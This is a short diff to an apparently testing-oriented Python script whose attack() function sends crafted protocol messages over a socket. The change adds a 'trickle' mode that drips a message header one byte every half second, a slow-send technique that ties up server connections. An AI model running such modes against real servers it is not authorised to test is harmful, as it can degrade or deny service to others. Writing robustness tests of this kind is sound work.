@@ -71,6 +71,13 @@ def attack(sk, what):
     elif what == "silent":
         opened(sk)
         sk.sendall(iov(ADD_F, 4, 0x100000, dst(1234), PE_PRESENT) + b"d" * 100)
+    elif what == "trickle":	# a header, a byte every half second
+        for b in iov(OPEN2, dst=dst(1234)):
+            try:
+                sk.send(bytes([b]))
+            except OSError:
+                break
+            time.sleep(0.5)
     elif what == "get":
         sk.sendall(iov(GET, 1, 0x100000, dst(1234)))
     else:
